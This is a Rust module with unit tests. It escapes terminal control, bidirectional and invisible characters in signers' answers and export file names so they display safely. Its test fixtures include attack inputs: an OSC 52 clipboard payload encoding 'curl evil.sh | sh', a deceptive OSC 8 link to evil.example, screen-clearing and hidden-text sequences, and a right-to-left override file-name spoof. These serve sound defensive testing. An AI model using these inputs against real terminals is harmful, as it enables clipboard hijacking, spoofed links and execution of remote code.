//! Text from outside the key tool made safe to show on a terminal: answers typed by anonymous
//! signers, and the names of files in an export folder, which whoever made the folder chose.
//!
//! A terminal acts on control characters instead of showing them. ESC and the C1 controls start
//! sequences that clear the screen (`ESC[2J`), hide text (`ESC[8m`), write to the clipboard
//! (OSC 52), make links that show one address and open another (OSC 8) or retitle the window; BEL
//! rings; a bare carriage return goes back to the start of the line, so what follows covers what
//! came before. Bidirectional controls and invisible format characters change or hide what is
//! shown without being seen themselves ("Trojan Source", <https://trojansource.codes/>).
//!
//! # The convention
//!
//! Each such character is shown as `\u{…}`, its code point in lowercase hexadecimal, as Rust
//! writes it: ESC is `\u{1b}`, BEL `\u{7}`, a carriage return `\u{d}`, a tab `\u{9}`, U+202E
//! `\u{202e}`. Backslashes are left as they are, so a signer can type text that looks like an
//! escape; the exact text is in an export written with `--out`.
//!
//! A line feed is kept where it is layout ([`LineFeeds::Keep`]): inside an answer in an export
//! shown on a terminal (multi-line testimony stays readable), and between the lines of the key
//! tool's own messages. Anywhere else — a file name in a message, above all — it is escaped, so
//! that one message stays one message. A tab is always escaped: the key tool never uses one for
//! layout.
//!
//! # What is escaped ([`is_unsafe`])
//!
//! * every control character (Unicode category Cc): C0 U+0000–U+001F, DEL U+007F, C1
//!   U+0080–U+009F;
//! * the bidirectional controls (Unicode property Bidi_Control): U+061C, U+200E, U+200F,
//!   U+202A–U+202E, U+2066–U+2069;
//! * invisible characters that can hide text: soft hyphen U+00AD, Mongolian vowel separator
//!   U+180E, zero width space U+200B, line and paragraph separators U+2028 and U+2029, word joiner
//!   and invisible operators U+2060–U+2064, deprecated format characters U+206A–U+206F, zero width
//!   no-break space U+FEFF, interlinear annotation characters U+FFF9–U+FFFB, and the tag
//!   characters U+E0000–U+E007F (which spell out hidden ASCII).
//!
//! The zero width joiner and non-joiner (U+200D, U+200C) and the variation selectors are kept:
//! emoji and the Persian and Indic scripts need them, and they cannot hide a run of text.

use std::fmt::{self, Write};
use std::path::Path;

use zeroize::Zeroizing;

/// Whether a line feed is layout to keep, or escaped like every other control character.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineFeeds {
    /// Keep line feeds: a multi-line answer, or a message of several lines.
    Keep,
    /// Escape line feeds too: text that must stay on one line, such as a file name.
    Escape,
}

/// Whether a terminal would act on `c`, or show nothing for it, instead of showing it as text.
pub fn is_unsafe(c: char) -> bool {
    c.is_control() || is_bidi_control(c) || is_invisible(c)
}

/// The Unicode Bidi_Control characters: they reorder the text around them.
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

/// Characters that take no space and show nothing, so they can hide text or split a word
/// invisibly (the module documentation lists them and says why the joiners are not here).
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00ad}'
            | '\u{180e}'
            | '\u{200b}'
            | '\u{2028}'
            | '\u{2029}'
            | '\u{2060}'..='\u{2064}'
            | '\u{206a}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

fn needs_escape(c: char, line_feeds: LineFeeds) -> bool {
    is_unsafe(c) && !(c == '\n' && line_feeds == LineFeeds::Keep)
}

/// `text` as a terminal may show it: each character that needs it written as `\u{…}`. The copy
/// may hold a signer's answer, so it is wiped on drop, and it is sized exactly so that it never
/// reallocates (which would leave an unwiped copy behind).
pub fn for_terminal(text: &str, line_feeds: LineFeeds) -> Zeroizing<String> {
    let mut shown = Zeroizing::new(String::with_capacity(escaped_len(text, line_feeds)));
    // Writing into a `String` cannot fail.
    let _ = write_escaped(&mut *shown, text, line_feeds);
    shown
}

/// A path as a message shows it: lossily decoded, every unsafe character escaped, line feeds too.
#[derive(Debug, Clone, Copy)]
pub struct ShownPath<'a>(pub &'a Path);

impl fmt::Display for ShownPath<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write_escaped(f, &self.0.to_string_lossy(), LineFeeds::Escape)
    }
}

fn write_escaped(out: &mut impl Write, text: &str, line_feeds: LineFeeds) -> fmt::Result {
    let mut rest = text;
    while let Some((at, c)) = rest
        .char_indices()
        .find(|&(_, c)| needs_escape(c, line_feeds))
    {
        out.write_str(&rest[..at])?;
        write!(out, "\\u{{{:x}}}", u32::from(c))?;
        rest = &rest[at + c.len_utf8()..];
    }
    out.write_str(rest)
}

/// How many bytes [`write_escaped`] writes for `text`.
fn escaped_len(text: &str, line_feeds: LineFeeds) -> usize {
    text.chars()
        .map(|c| {
            if needs_escape(c, line_feeds) {
                // `\u{` and `}` around at least one hexadecimal digit.
                let bits = (u32::BITS - u32::from(c).leading_zeros()).max(1);
                4 + bits.div_ceil(4) as usize
            } else {
                c.len_utf8()
            }
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Attacks found against organizers' terminals, and ordinary text that must pass unchanged.
    const CASES: &[(&str, &str, &str)] = &[
        // (what, text, shown with line feeds kept)
        (
            "OSC 52 writes the clipboard",
            "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
            "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
        ),
        (
            "OSC 8 makes a link",
            "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
            "\\u{1b}]8;;https://evil.example/\\u{1b}\\click\\u{1b}]8;;\\u{1b}\\",
        ),
        ("clear screen", "\x1b[2Jgone", "\\u{1b}[2Jgone"),
        (
            "hidden text",
            "I agree\x1b[8m not\x1b[0m",
            "I agree\\u{1b}[8m not\\u{1b}[0m",
        ),
        ("bare CR overwrites", "evil\rgood", "evil\\u{d}good"),
        ("C1 CSI", "\u{9b}2J", "\\u{9b}2J"),
        (
            "C1 OSC and ST",
            "\u{9d}0;title\u{9c}",
            "\\u{9d}0;title\\u{9c}",
        ),
        ("next line (C1)", "a\u{85}b", "a\\u{85}b"),
        (
            "bell, backspace, DEL",
            "\x07\x08\x7f",
            "\\u{7}\\u{8}\\u{7f}",
        ),
        ("NUL", "a\0b", "a\\u{0}b"),
        ("tab", "a\tb", "a\\u{9}b"),
        (
            "right-to-left override",
            "user\u{202e}txt.exe",
            "user\\u{202e}txt.exe",
        ),
        (
            "isolates",
            "\u{2067}abc\u{2069}\u{2066}\u{2068}",
            "\\u{2067}abc\\u{2069}\\u{2066}\\u{2068}",
        ),
        (
            "bidi marks",
            "\u{200f}\u{200e}\u{61c}",
            "\\u{200f}\\u{200e}\\u{61c}",
        ),
        (
            "invisible characters",
            "a\u{200b}b\u{feff}c\u{ad}d\u{2060}e\u{2028}f",
            "a\\u{200b}b\\u{feff}c\\u{ad}d\\u{2060}e\\u{2028}f",
        ),
        (
            "tag characters",
            "x\u{e0041}\u{e007f}",
            "x\\u{e0041}\\u{e007f}",
        ),
        // Text that is only text.
        ("plain", "Mai, 42 = \\u{1b}", "Mai, 42 = \\u{1b}"),
        ("multi-line answer", "one\ntwo", "one\ntwo"),
        (
            "scripts and emoji",
            "مرحبا שלום 按摩 e\u{301} 👩🏽\u{200d}⚕\u{fe0f} می\u{200c}خواهم",
            "مرحبا שלום 按摩 e\u{301} 👩🏽\u{200d}⚕\u{fe0f} می\u{200c}خواهم",
        ),
        ("empty", "", ""),
    ];

    #[test]
    fn every_unsafe_character_is_shown_escaped_and_text_is_left_alone() {
        for (what, text, shown) in CASES {
            let escaped = for_terminal(text, LineFeeds::Keep);
            assert_eq!(escaped.as_str(), *shown, "{what}");
            assert_eq!(escaped.capacity(), escaped.len(), "{what}: sized exactly");
            assert!(
                !escaped.chars().any(|c| is_unsafe(c) && c != '\n'),
                "{what}"
            );
        }
    }

    #[test]
    fn line_feeds_are_kept_only_when_asked() {
        assert_eq!(
            for_terminal("one\ntwo\r\n", LineFeeds::Keep).as_str(),
            "one\ntwo\\u{d}\n"
        );
        assert_eq!(
            for_terminal("one\ntwo\r\n", LineFeeds::Escape).as_str(),
            "one\\u{a}two\\u{d}\\u{a}"
        );
    }

    #[test]
    fn escaped_text_has_nothing_left_to_escape() {
        for (what, text, _) in CASES {
            let once = for_terminal(text, LineFeeds::Escape);
            assert_eq!(
                for_terminal(&once, LineFeeds::Escape).as_str(),
                once.as_str(),
                "{what}"
            );
        }
    }

    #[test]
    fn every_control_bidi_and_invisible_character_is_unsafe() {
        let unsafe_ranges = [
            0x00..=0x1f,
            0x7f..=0x9f,
            0xad..=0xad,
            0x61c..=0x61c,
            0x180e..=0x180e,
            0x200b..=0x200b,
            0x200e..=0x200f,
            0x2028..=0x202e,
            0x2060..=0x2064,
            0x2066..=0x206f,
            0xfeff..=0xfeff,
            0xfff9..=0xfffb,
            0xe0000..=0xe007f,
        ];
        for c in (0..=0x10ffff).filter_map(char::from_u32) {
            let expected = unsafe_ranges
                .iter()
                .any(|range| range.contains(&u32::from(c)));
            assert_eq!(is_unsafe(c), expected, "U+{:04X}", u32::from(c));
        }
    }

    #[test]
    fn paths_are_shown_on_one_line() {
        let path = Path::new("export/\x1b[2J\u{202e}x\ny.age");
        assert_eq!(
            ShownPath(path).to_string(),
            "export/\\u{1b}[2J\\u{202e}x\\u{a}y.age"
        );
    }

    #[cfg(unix)]
    #[test]
    fn paths_that_are_not_utf8_are_shown_lossily() {
        use std::os::unix::ffi::OsStrExt;
        let path = Path::new(std::ffi::OsStr::from_bytes(b"a\x9b\xff.age"));
        assert_eq!(ShownPath(path).to_string(), "a\u{fffd}\u{fffd}.age");
    }
}
